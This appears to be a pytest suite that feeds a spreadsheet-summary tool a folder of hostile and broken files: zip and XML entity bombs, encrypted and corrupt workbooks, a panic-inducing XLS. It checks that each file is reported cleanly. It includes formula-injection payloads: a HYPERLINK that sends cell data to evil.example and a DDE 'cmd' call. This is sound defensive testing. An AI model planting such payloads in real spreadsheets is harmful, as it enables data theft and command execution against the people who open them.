"""Hostile and broken input, end to end (issue 6).

One folder holds every kind of bad file the issue lists next to a few good
workbooks.  The batch must finish with the tables and the summary written;
each bad file must end as a located problem with a stable code (or the
documented silent skip of lock files, hidden files and system clutter), and
no file may take more than a few seconds.  The reader's per-kind unit tests
are in test_container.py and test_read_folder.py; this file is the batch.
"""

from __future__ import annotations

import hashlib
import importlib.util
import multiprocessing
import os
import stat
import time
from collections import Counter
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import hostile
from fake_summary import excel_text, table_rows
from hostile import default_tool, write_tool
from needsassess.container import Limits, Unreadable, open_container
from needsassess.figures import load_layout, sheet_spec
from needsassess.problems import CODES
from needsassess.read import read_folder, read_workbook
from needsassess.summary import summarize
from needsassess.tables import READER_TABLES
from needsassess.cell_text import FORMULA_TRIGGERS

LAYOUT = load_layout()
#: What a bad file may cost, measured per file (generous: CI machines are slow and shared).
SECONDS_PER_FILE = 5.0
#: What refusing the zip bomb may cost: it is decided on the zip directory alone.
BOMB_SECONDS = 0.25

FORMULA_ANSWERS = [
    "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Click for the report\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3 is how far our absenteeism moved",
    "@SUM(A1:A9)",
    "=1+1",
    "\t=TAB(1)",
]
FORMULA_LEA = "=HYPERLINK(\"http://evil.example\",\"Springfield\")"
LONG = hostile.long_answer(20_000)
NON_UTF8 = b"caf\xe9 district \xff.xlsx"

#: file -> (status, problem codes of the file, in any order); None: the file is not listed at all.
EXPECTED: dict[str, tuple[str, set[str]]] = {
    "good.xlsx": ("read", set()),
    "formulas.xlsx": ("read", set()),
    "long-answer.xlsx": ("read", set()),
    "caf\ufffd district \ufffd.xlsx": ("read", {"file-name-encoding"}),
    "password.xlsx": ("failed", {"file-encrypted"}),
    "truncated.xlsx": ("failed", {"file-corrupt"}),
    "renamed-text.xlsx": ("failed", {"file-not-workbook"}),
    "renamed-word.xlsx": ("failed", {"file-not-workbook"}),
    "empty.xlsx": ("failed", {"file-empty"}),
    "~$good.xlsx": ("skipped", set()),
    "budget-report.xlsx": ("failed", {"not-the-tool"}),
    "instructions-only.xlsx": ("failed", {"not-the-tool"}),
    "laughs-workbook.xlsx": ("failed", {"file-unsafe-xml"}),
    "laughs-shared-strings.xlsx": ("failed", {"file-unsafe-xml"}),
    "zip-bomb.xlsx": ("failed", {"file-too-large"}),
    "binary.xlsb": ("failed", {"file-unsupported"}),
    "export.csv": ("skipped", {"file-skipped"}),
    "named-pipe.xlsx": ("failed", {"file-unreadable"}),
    "link-to-nothing.xlsx": ("failed", {"file-unreadable"}),
    "bomb.ods": ("failed", {"file-too-large"}),
}
#: Workbooks with one bad tab: read as far as possible, the tab named in the problem.
BAD_TAB = {
    "far-cell.xlsx": "tab-too-large",
    "far-by-position.xlsx": "tab-too-large",
    "lying-zip.xlsx": "tab-unreadable",
}


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    """The hostile folder, its hashes before the run, the summary and the workbook written."""
    src = tmp_path_factory.mktemp("src")
    good_src = write_tool(src / "tool.xlsx")
    root = tmp_path_factory.mktemp("hostile")
    write_tool(root / "good.xlsx", default_tool(lea_name="Good Schools", lea_id="G-1", nces_id="0700001"))
    answers = {"WRE": FORMULA_ANSWERS[:3], "SHS": FORMULA_ANSWERS[3:5], "EUT": FORMULA_ANSWERS[5:]}
    write_tool(root / "formulas.xlsx", default_tool(lea_name=FORMULA_LEA, lea_id="=F-2", nces_id="0700002",
                                                    answers=answers, typed_text=True))
    long_tool = default_tool(lea_name="Long Answer District", lea_id="L-3", nces_id="0700003")
    long_tool.answers["SHS"][1] = LONG
    write_tool(root / "long-answer.xlsx", long_tool)
    hostile.non_utf8_name(root, write_tool(src / "other.xlsx", default_tool(
        lea_name="Caf\u00e9 District", lea_id="C-4", nces_id="0700004")), NON_UTF8)
    if _can_encrypt():
        hostile.encrypted(root / "password.xlsx", good_src)
    hostile.truncated(root / "truncated.xlsx", good_src)
    hostile.text_file(root / "renamed-text.xlsx", "LEA name\tSpringfield\nThis was a text file.\n")
    hostile.docx(root / "renamed-word.xlsx")
    hostile.empty_file(root / "empty.xlsx")
    hostile.lock_file(root / "~$good.xlsx")
    hostile.not_the_tool(root / "budget-report.xlsx")
    hostile.instructions_only(root / "instructions-only.xlsx")
    hostile.entity_bomb(root / "laughs-workbook.xlsx", good_src)
    hostile.shared_strings_entity_bomb(root / "laughs-shared-strings.xlsx", good_src)
    hostile.big_zip_bomb(root / "zip-bomb.xlsx", size=400 * 2**20)
    hostile.xlsb(root / "binary.xlsb")
    hostile.csv_file(root / "export.csv")
    hostile.named_pipe(root / "named-pipe.xlsx")
    hostile.dangling_link(root / "link-to-nothing.xlsx")
    hostile.ods_bomb(root / "bomb.ods")
    hostile.far_cell(root / "far-cell.xlsx", write_tool(src / "far.xlsx", default_tool(
        lea_name="Far Cell Schools", lea_id="FC-5", nces_id="0700005")))
    hostile.far_cell_by_position(root / "far-by-position.xlsx", write_tool(src / "pos.xlsx", default_tool(
        lea_name="Far Position Schools", lea_id="FP-6", nces_id="0700006")))
    hostile.lying_zip_bomb(root / "lying-zip.xlsx", write_tool(src / "liar.xlsx", default_tool(
        lea_name="Lying Zip Schools", lea_id="LZ-7", nces_id="0700007")))
    hostile.folder_loop(root)
    before = {p: _sha(p) for p in _regular_files(root)}
    start = time.perf_counter()
    summary = summarize(root)
    read_seconds = time.perf_counter() - start
    out = tmp_path_factory.mktemp("out") / "statewide-summary.xlsx"
    start = time.perf_counter()
    summary.to_excel(out)
    write_seconds = time.perf_counter() - start
    return {"root": root, "before": before, "summary": summary, "out": out, "read_seconds": read_seconds,
            "write_seconds": write_seconds, "book": openpyxl.load_workbook(out)}


def _can_encrypt() -> bool:
    return importlib.util.find_spec("msoffcrypto") is not None


def _regular_files(root: Path) -> list[Path]:
    out = []
    for folder, dirs, files in os.walk(root):  # does not follow folder links
        for name in files:
            path = Path(folder) / name
            if stat.S_ISREG(os.lstat(path).st_mode):
                out.append(path)
    return out


def _expected() -> dict[str, tuple[str, set[str]]]:
    expected = dict(EXPECTED)
    if not _can_encrypt():
        del expected["password.xlsx"]
    return expected


# ---------------------------------------------------------------- every file classified
def test_every_file_is_listed_with_its_status(corpus):
    files = corpus["summary"].files
    status = dict(zip(files["file"], files["status"]))
    want = {name: s for name, (s, _) in _expected().items()}
    want.update({name: "partial" for name in BAD_TAB})
    assert status == want


def test_every_bad_file_ends_as_its_stable_code(corpus):
    problems = corpus["summary"].problems
    codes = problems.groupby("file")["code"].apply(set).to_dict()
    for name, (_, want) in _expected().items():
        assert codes.get(name, set()) == want, name
    assert "~$good.xlsx" not in codes  # lock files: the documented silent skip


def test_a_bad_tab_is_located_and_the_rest_of_the_workbook_read(corpus):
    problems = corpus["summary"].problems
    for name, code in BAD_TAB.items():
        rows = problems[(problems.file == name) & (problems.code == code)]
        assert len(rows) == 1, name
        assert rows.iloc[0].sheet == "1. LEA Information" and rows.iloc[0].severity == "error"
    responses = corpus["summary"].responses
    assert set(BAD_TAB) <= set(responses.file)  # the analysis tabs were read all the same


def test_problems_are_located_records_with_known_codes(corpus):
    problems = corpus["summary"].problems
    assert list(problems.columns[:6]) == READER_TABLES["problems"]
    assert set(problems.code) <= set(CODES)
    assert (problems.file != "").all()
    assert not (problems.code == "read-failed").any()
    tab_level = problems[problems.code.str.startswith("tab-")]
    assert (tab_level.sheet != "").all()
    for code, severity in zip(problems.code, problems.severity):
        assert severity == CODES[code][0], code
    assert problems[problems.code == "folder-loop"].file.tolist() == ["loop/back"]


def test_tables_of_the_good_workbooks_are_complete(corpus):
    s = corpus["summary"]
    good = {"good.xlsx", "formulas.xlsx", "long-answer.xlsx", "caf\ufffd district \ufffd.xlsx", *BAD_TAB}
    assert set(s.leas.file) == good
    for name, columns in READER_TABLES.items():
        assert list(s.tables[name].columns[:len(columns)]) == columns, name
    answers = s.responses[s.responses.file == "formulas.xlsx"]
    assert sorted(answers.answer) == sorted(a.strip() for a in FORMULA_ANSWERS)
    assert s.leas.set_index("file").loc["formulas.xlsx", "lea_name"] == FORMULA_LEA
    (long,) = [a for a in s.responses.answer if len(a) > 10_000]
    assert long == LONG


# ---------------------------------------------------------------- time
def test_the_batch_is_quick(corpus):
    n = len(_expected()) + len(BAD_TAB)
    assert corpus["read_seconds"] < SECONDS_PER_FILE * n / 4
    assert corpus["write_seconds"] < 30


def test_each_bad_file_alone_takes_seconds_at_most(corpus):
    root = corpus["root"]
    for path in _regular_files(root):
        if path.name.startswith("~$") or path.suffix == ".csv":
            continue
        start = time.perf_counter()
        read_workbook(path, root=root)
        elapsed = time.perf_counter() - start
        assert elapsed < SECONDS_PER_FILE, (path.name, elapsed)


def test_the_zip_bomb_is_refused_on_its_directory(corpus):
    data = (corpus["root"] / "zip-bomb.xlsx").read_bytes()
    assert len(data) < 4 * 2**20  # 400 MB of sheet in a few MB of file
    start = time.perf_counter()
    with pytest.raises(Unreadable) as err:
        open_container(data).close()
    assert time.perf_counter() - start < BOMB_SECONDS
    assert err.value.code == "file-too-large" and "400 MB" in err.value.message


def test_cell_address_bombs_are_refused_before_calamine_allocates(tmp_path):
    src = write_tool(tmp_path / "src.xlsx")
    for ref in ("XFD1048576", "Z1048576", "XFD70000"):
        data = hostile.far_cell(tmp_path / f"{ref}.xlsx", src, ref=ref).read_bytes()
        container = open_container(data)
        try:
            sheet = next(s for s in container.sheets if s.name == "1. LEA Information")
            start = time.perf_counter()
            with pytest.raises(Unreadable) as err:
                container.rows(sheet)
            assert time.perf_counter() - start < 1.0
            assert err.value.code == "tab-too-large" and "2,000,000" in err.value.message
        finally:
            container.close()


def test_a_far_cell_within_the_limits_is_read(tmp_path):
    src = write_tool(tmp_path / "src.xlsx")
    a = read_workbook(hostile.far_cell(tmp_path / "ok.xlsx", src, ref="AZ20000"))
    assert list(a.files.status) == ["read"] and a.ok
    tight = read_workbook(tmp_path / "ok.xlsx", limits=Limits(sheet_cells=20_000 * 52 - 1))
    assert "tab-too-large" in set(tight.problems.code)
    few = read_workbook(src, limits=Limits(workbook_cells=100))  # every tab small, all of them too many
    refused = few.problems[few.problems.code == "tab-too-large"]
    assert len(refused) >= 3 and few.responses.empty and list(few.leas.lea_id) == ["SP-001"]
    assert all("past the 100 allowed" in m for m in refused.message)


def test_a_tool_whose_tabs_are_all_damaged_says_which_tabs(tmp_path):
    src = write_tool(tmp_path / "src.xlsx")
    damaged = hostile._rewrite(tmp_path / "damaged.xlsx", src, "", None)
    for i in range(1, 12):  # every sheet part: the tags of the sheet data no longer close
        hostile._rewrite(damaged, damaged, f"xl/worksheets/sheet{i}.xml",
                         lambda xml: xml.replace(b"</sheetData>", b"</sheetDta>"))
    a = read_workbook(damaged)
    codes = set(a.problems.code)
    assert "tab-unreadable" in codes and "not-the-tool" not in codes


# ---------------------------------------------------------------- the summary
def test_the_summary_is_written_and_lists_every_file(corpus):
    book = corpus["book"]
    files = table_rows(book[sheet_spec(LAYOUT, "files")["name"]])
    label = LAYOUT["columns"]["file"]["label"]
    assert {r[label] for r in files} == set(corpus["summary"].files.file)
    problems = table_rows(book["Data problems"])
    code = LAYOUT["columns"]["code"]["label"]
    assert Counter(r[code] for r in problems) == Counter(corpus["summary"].problems.code)


def test_no_formula_and_no_planted_link_in_the_summary(corpus):
    book = corpus["book"]
    planted = {a.strip() for a in FORMULA_ANSWERS} | {FORMULA_LEA}
    seen = Counter()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                value = excel_text(cell.value)
                if cell.hyperlink is not None:
                    assert cell.hyperlink.target is None, (ws.title, cell.coordinate)  # only links inside the book
                if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, value)
                if value in planted:
                    seen[value] += 1
    assert set(seen) == planted


def test_the_tables_are_written_too(corpus, tmp_path):
    written = corpus["summary"].to_csv(tmp_path / "tables")
    names = {p.stem for p in written}
    assert set(READER_TABLES) <= names and "files" in names
    problems = pd.read_csv(tmp_path / "tables" / "problems.csv", encoding="utf-8-sig", keep_default_na=False)
    assert Counter(problems.code) == Counter(corpus["summary"].problems.code)
    assert "caf\ufffd district \ufffd.xlsx" in set(problems.file)


def test_the_long_answer_is_in_the_summary_whole_and_once(corpus):
    book = corpus["book"]
    label = LAYOUT["columns"]["answer"]["label"]
    found = [r[label] for r in table_rows(book["Answers SHS"]) if r[label] == LONG]
    assert len(found) == 1


def test_the_inputs_are_untouched(corpus):
    after = {p: _sha(p) for p in _regular_files(corpus["root"])}
    assert after == corpus["before"]  # same files, same bytes: nothing written into the input folder


# ---------------------------------------------------------------- what the corpus cannot hold
def test_a_file_without_read_permission(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    write_tool(folder / "good.xlsx")
    if not hostile.unreadable(folder / "no-access.xlsx", folder / "good.xlsx"):
        pytest.skip("running as root: file permissions do not stop reading (the named pipe stands in)")
    a = read_folder(folder)
    p = a.problems[a.problems.file == "no-access.xlsx"]
    assert list(p.code) == ["file-unreadable"] and "ermission" in p.iloc[0].message
    assert dict(zip(a.files.file, a.files.status))["good.xlsx"] == "read"


def test_a_folder_without_read_permission(tmp_path):
    write_tool(tmp_path / "good.xlsx")
    locked = tmp_path / "locked"
    locked.mkdir()
    write_tool(locked / "inside.xlsx")
    locked.chmod(0)
    try:
        if os.access(locked, os.R_OK):
            pytest.skip("running as root: folder permissions do not stop listing")
        a = read_folder(tmp_path)
        assert a.problems[a.problems.code == "folder-unreadable"].file.tolist() == ["locked"]
        assert list(a.files.file) == ["good.xlsx"]
    finally:
        locked.chmod(0o755)


def test_a_file_past_the_size_limit_is_not_opened(tmp_path):
    write_tool(tmp_path / "good.xlsx")
    with open(tmp_path / "huge.xlsx", "wb") as fh:  # sparse: no disk is used
        fh.truncate(3 * 2**30)
    start = time.perf_counter()
    a = read_folder(tmp_path)
    assert time.perf_counter() - start < SECONDS_PER_FILE
    p = a.problems[a.problems.file == "huge.xlsx"].iloc[0]
    assert (p.code, p.severity) == ("file-too-large", "error") and "3,072 MB" in p.message
    single = read_workbook(tmp_path / "huge.xlsx")
    assert list(single.problems.code) == ["file-too-large"]


@pytest.mark.skipif(multiprocessing.get_start_method(allow_none=False) != "fork",
                    reason="the crash is planted in forked reader processes")
def test_a_file_that_kills_its_reader_process_fails_alone(tmp_path, monkeypatch):
    import needsassess.read as read

    real = read.read_file

    def crash_on_marked_files(path, file, template, limits=None):
        if "crash" in file:
            os._exit(70)  # what a crash in native code or the out-of-memory killer does to a process
        return real(path, file, template, limits)

    monkeypatch.setattr(read, "read_file", crash_on_marked_files)  # forked reader processes inherit it
    for i in range(12):
        write_tool(tmp_path / f"lea-{i:02d}.xlsx", default_tool(lea_name=f"LEA {i}", lea_id=f"L-{i}",
                                                               nces_id=f"07{i:05d}"))
    write_tool(tmp_path / "lea-05-crash.xlsx", default_tool(lea_name="Crash", lea_id="C-0", nces_id="0799999"))
    a = read_folder(tmp_path, workers=2)
    status = dict(zip(a.files.file, a.files.status))
    assert status.pop("lea-05-crash.xlsx") == "failed"
    assert set(status.values()) == {"read"} and len(status) == 12
    p = a.problems[a.problems.file == "lea-05-crash.xlsx"]
    assert list(p.code) == ["read-failed"] and "stopped" in p.iloc[0].message


def test_a_capacity_row_without_a_rating_does_not_stop_the_summary(tmp_path):
    tool = default_tool()
    tool.ratings["WRE"][0] = ("Using data to identify needs and gaps", "high", "Y")  # a word, not 1-4
    write_tool(tmp_path / "in" / "lea.xlsx", tool)
    summary = summarize(tmp_path / "in")
    assert list(summary.problems.code) == ["rating-invalid"]
    out = summary.to_excel(tmp_path / "out" / "statewide-summary.xlsx")
    ratings = table_rows(openpyxl.load_workbook(out)["Capacity ratings"])
    assert len(ratings) == 9


#: A compound file whose directory makes calamine panic (a Rust panic comes to Python as a BaseException).
PANICKING_XLS = ("eNq7cF7wwcKNUg8Z0IAdAzPDv/+cDGxIYoxADOcLMADl//8HMWE0OxD/HwVDCnBycAAjlRUcpSZCO7gZRsEoGAWjYBSMglEwCkbBKBgF"
                 "gx5wkakviCEfCEsYFBhcGfKAdBFDJUn6xRhYGWF9CUYi9cD6iyAQDrS9iCGbIQnsjmyS3S/EwMSI3J8hVt+Z0Z4OvE/PBMTMQMwCxKzQ"
                 "+AHhv6Pd42EPAMkJySY=")


def test_a_file_that_makes_calamine_panic_is_a_damaged_file_not_the_end_of_the_batch(tmp_path):
    import base64
    import zlib

    (tmp_path / "panic.xls").write_bytes(zlib.decompress(base64.b64decode(PANICKING_XLS)))
    write_tool(tmp_path / "lea.xlsx")
    a = read_folder(tmp_path, cache=False)
    assert dict(zip(a.files.file, a.files.status)) == {"lea.xlsx": "read", "panic.xls": "failed"}
    p = a.problems[a.problems.file == "panic.xls"].iloc[0]
    assert p.code == "file-corrupt" and "damaged" in p.message
